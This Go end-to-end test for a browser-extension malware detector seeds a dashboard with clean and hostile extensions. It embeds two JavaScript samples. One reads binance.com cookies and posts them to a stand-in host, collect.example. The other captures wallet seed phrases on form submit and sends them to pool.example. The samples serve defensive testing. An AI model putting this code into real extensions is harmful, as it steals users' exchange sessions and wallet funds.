//go:build linux

package e2e

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/extwatch/extwatch/agent/dashboard"
	"github.com/extwatch/extwatch/agent/store"
	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures"
	"github.com/extwatch/extwatch/signatures/behavior/analysis"
)

// engine is the version under which the analyses of the desk are kept.
const engine = "e2e"

// A desk is a page over a store with the extensions of a trader, judged by the real rules from real code.
type desk struct {
	store  *store.Store
	rules  *signatures.Ruleset
	page   *dashboard.Page
	orders chan order

	thief, restore int64 // the rows of the extension that steals sessions, and of the one that takes seed phrases
}

// An order is what a person decided on the page.
type order struct {
	dashboard.Order
	what string
}

type files struct{ fstest.MapFS }

func (files) Close() error                  { return nil }
func (files) Problems() []manifests.Problem { return nil }

const thiefCode = `const SITE = "binance.com";
const HOME = "https://collect.example/in";

async function session() {
  const jar = await chrome.cookies.getAll({domain: SITE});
  return jar.map((c) => c.name + "=" + c.value).join("; ");
}

async function report() {
  const body = JSON.stringify({at: Date.now(), s: await session()});
  await fetch(HOME, {method: "POST", body});
}

chrome.runtime.onStartup.addListener(report);
`

const seedCode = `document.addEventListener("submit", (e) => {
  const words = document.querySelector("textarea[name=mnemonic]").value;
  fetch("https://pool.example/w", {method: "POST", body: JSON.stringify({words})});
});
`

func newDesk(t *testing.T) *desk {
	t.Helper()
	d := &desk{orders: make(chan order, 8)}
	ctx := context.Background()
	var err error
	if d.store, _, err = store.Open(ctx, store.Config{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.store.Close() })
	if d.rules, err = signatures.Builtin(); err != nil {
		t.Fatal(err)
	}
	n, m := d.rules.Counts()
	if err := d.store.Fed(ctx, store.Health{Feed: "built-in", FeedVersion: d.rules.Version(), Rules: n, Indicators: m}); err != nil {
		t.Fatal(err)
	}
	for _, e := range []struct{ name, version string }{
		{"Price Ticker", "2.4.1"}, {"Dark Reader for Charts", "4.9"}, {"Tab Tidy", "1.12"}, {"Grammar Helper", "14.1"}, {"Portfolio Sync", "0.8"},
	} {
		d.record(t, "ada", e.name, e.version, signatures.Clean)
	}
	d.record(t, "ada", "Aggr Helper", "1.3.0", signatures.Clean)
	d.thief = d.record(t, "ada", "Aggr Helper", "1.4.0", signatures.Suspicious)
	d.restore = d.record(t, "ada", "Wallet Restore", "1.0", signatures.Malicious)
	d.record(t, "bob", "Bobs Notes", "1.0", signatures.Clean)
	if err := d.store.Swept(ctx, store.Health{Sweep: time.Now(), Took: 840e6, Browsers: 1, Profiles: 2, Extensions: 8}); err != nil {
		t.Fatal(err)
	}
	d.page, err = dashboard.New(dashboard.Config{
		Store: d.store, Rules: d.rules, Engine: engine, Users: map[string]string{"ada": "Ada"},
		Block: d.act("block"), Unblock: d.act("unblock"), Trust: d.act("trust"), Untrust: d.act("untrust"), Snooze: d.act("snooze"),
	})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// act carries out what a person decided as far as the page shows it: the store remembers.
func (d *desk) act(what string) func(context.Context, dashboard.Order) error {
	return func(ctx context.Context, o dashboard.Order) error {
		d.orders <- order{o, what}
		kind, ends := strings.CutPrefix(what, "un")
		if !ends {
			_, err := d.store.Decide(ctx, store.Decision{Kind: kind, ID: o.Extension.ID, UpTo: signatures.Malicious, Reason: o.Reason, By: o.By, Until: o.Until})
			return err
		}
		list, err := d.store.Decisions(ctx, o.Extension.ID, false)
		for _, was := range list {
			if was.Kind == kind {
				err = errors.Join(err, d.store.Undecide(ctx, was.Row, o.By))
			}
		}
		return err
	}
}

// record has an extension seen: a clean one is ordinary, a suspicious one takes sessions, a malicious one seed phrases.
func (d *desk) record(t *testing.T, user, name, version string, v signatures.Verdict) int64 {
	t.Helper()
	ctx := context.Background()
	m := `{"manifest_version":3,"name":%q,"version":%q,"permissions":["storage","alarms"%s],"host_permissions":[%s],"background":{"service_worker":"bg.js"}%s}`
	code, perms, hosts, more := "chrome.alarms.create({periodInMinutes: 5});\n", "", `"https://api.quotes.test/*"`, ""
	origin := manifests.OriginStore
	switch {
	case v == signatures.Suspicious:
		code, perms, hosts, origin = thiefCode, `,"cookies"`, `"https://*.binance.com/*","https://*.okx.com/*","https://*.bybit.com/*"`, manifests.OriginUnpacked
	case v == signatures.Malicious:
		more, origin = `,"content_scripts":[{"matches":["<all_urls>"],"js":["page.js"]}]`, manifests.OriginSideloaded
	case name == "Aggr Helper":
		origin = manifests.OriginUnpacked // as its next version
	case name == "Dark Reader for Charts" || name == "Grammar Helper":
		more = `,"content_scripts":[{"matches":["<all_urls>"],"js":["page.js"]}]`
	case name == "Portfolio Sync":
		hosts = `"https://*.kraken.com/*"`
	}
	text := fmt.Sprintf(m, name, version, perms, hosts, more)
	page := "document.documentElement.dataset.theme = 'dark';\n"
	if v == signatures.Malicious {
		page = seedCode
	}
	fsys := files{fstest.MapFS{"manifest.json": {Data: []byte(text)}, "bg.js": {Data: []byte(code)}, "page.js": {Data: []byte(page)}}}
	parsed, err := manifests.Parse([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(user + name))
	id := make([]byte, 32)
	for i := range id {
		id[i] = 'a' + sum[i]%16
	}
	e := &manifests.Extension{
		Browser: "chrome", Channel: "stable", User: user, Profile: "Default", ProfileTitle: "Trading", ID: string(id), Enabled: true,
		Path: "/home/" + user + "/.config/google-chrome/Default/Extensions/" + string(id), Origin: origin, FromStore: origin == manifests.OriginStore, Manifest: parsed,
	}
	contents, err := d.rules.Read(ctx, fsys)
	if err != nil {
		t.Fatal(err)
	}
	report := analysis.Analyze(ctx, analysis.Input{Manifest: parsed, Files: fsys})
	hashes := map[string]string{}
	for file, f := range fsys.MapFS {
		sum := sha256.Sum256(f.Data)
		hashes[file] = hex.EncodeToString(sum[:])
	}
	content := name + version
	if err := d.store.PutAnalysis(ctx, content, engine, store.Analysis{Behavior: &report}); err != nil {
		t.Fatal(err)
	}
	out, err := d.store.Record(ctx, store.Observation{
		Dir: "/home/" + user + "/.config/google-chrome/Default", Extension: e, Content: content, Files: hashes, Ruleset: d.rules.Version(),
		Result: d.rules.Judge(signatures.Input{Extension: e, Contents: contents, Behavior: &report}),
	})
	if err != nil {
		t.Fatal(err)
	}
	return out[0].Extension
}
